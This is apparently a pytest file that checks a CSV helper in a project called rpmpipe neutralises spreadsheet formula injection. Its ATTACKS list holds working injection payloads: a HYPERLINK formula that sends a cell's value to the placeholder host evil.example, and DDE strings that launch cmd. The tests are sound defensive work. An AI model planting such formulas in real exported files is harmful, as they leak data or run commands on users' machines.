"""Every CSV rpmpipe writes neutralises spreadsheet formulas (OWASP), through one helper."""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rpmpipe.csv_cells import SafeCsvWriter, csv_field, csv_row, neutralise_cell, restore_cell

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_get_a_leading_quote(attack: str) -> None:
    assert neutralise_cell(attack) == "'" + attack
    assert restore_cell(neutralise_cell(attack)) == attack
    assert csv_field(attack).lstrip('"').startswith("'")


@pytest.mark.parametrize("value", ["-2.50", "+3", "-7", "Ada", "O'Brien", "", "'quoted"])
def test_plain_values_and_numbers_are_left_alone(value: str) -> None:
    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")


@given(st.text(max_size=40))
@example("+0")
@example("=1+1")
def test_restore_undoes_neutralise_and_no_cell_starts_a_formula(value: str) -> None:
    safe = neutralise_cell(value)
    assert restore_cell(safe) == value
    # A plain number ("+0", "-2.50") is a value, not a formula, and stays as it is.
    starts_a_formula = safe[:1] in tuple("=+-@\t\r") and not PLAIN_NUMBER.fullmatch(safe)
    assert not starts_a_formula


def test_safe_writer_neutralises_every_cell() -> None:
    out = io.StringIO(newline="")
    SafeCsvWriter(out).writerow(ATTACKS[:4])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells == ["'" + a for a in ATTACKS[:4]]


@given(st.lists(st.text(max_size=12) | st.integers(), max_size=6))
@example(["'=1+1", "''@x", "'plain", "", 7, "-2.50"])
def test_safe_writer_cells_are_neutralise_cell_of_each_value(row: list[str | int]) -> None:
    out = io.StringIO(newline="")
    SafeCsvWriter(out).writerow(row)
    safe = [neutralise_cell(str(v)) for v in row]
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [safe]
    if not any("\r" in cell for cell in safe):
        expected = io.StringIO(newline="")
        csv.writer(expected, lineterminator="\n").writerow(safe)
        assert out.getvalue() == expected.getvalue()
    after = io.StringIO(newline="")
    assert SafeCsvWriter(after).writerows_after(["=head", 1], [row, row]) == 2
    safe_head = [neutralise_cell("=head"), "1"]
    assert (
        list(csv.reader(io.StringIO(after.getvalue(), newline="")))
        == [safe_head + [neutralise_cell(str(v)) for v in row]] * 2
    )


@pytest.mark.parametrize("value", ["a\rb", "x\r", "\r", "=1\r+2", "a\r\nb"])
def test_a_carriage_return_inside_a_cell_is_quoted_so_readers_keep_the_row(value: str) -> None:
    # Python 3.11's csv writer with "\n" line ends left a lone "\r" bare: a reader then split
    # the row in two there.
    out = io.StringIO(newline="")
    writer = SafeCsvWriter(out)
    writer.writerow(["P1", value, 3])
    writer.writerows_after(["P2"], [[value]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["P1", neutralise_cell(value), "3"], ["P2", neutralise_cell(value)]]
    assert out.getvalue().endswith("\n") and not out.getvalue().endswith("\r\n")
    one = io.StringIO(newline="")
    SafeCsvWriter(one).writerow(["P1", value, "3"])
    assert csv_row(["P1", value, "3"]) + "\n" == one.getvalue()


def test_no_module_writes_csv_around_the_helper() -> None:
    # One implementation: every CSV writer of rpmpipe goes through rpmpipe.csv_cells.
    offenders = []
    for folder in ("rpmpipe", "ingest", "metrics", "billing_export", "simulators"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "csv_cells.py" or path.is_symlink():
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if (
                    isinstance(node, ast.Attribute)
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                    and node.attr in ("writer", "DictWriter")
                ) or (isinstance(node, ast.Attribute) and node.attr == "to_csv"):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, offenders


@pytest.mark.parametrize("value", ["'=1+1", "''@x", "'"])
def test_values_that_already_start_with_a_quote_round_trip(value: str) -> None:
    assert restore_cell(neutralise_cell(value)) == value
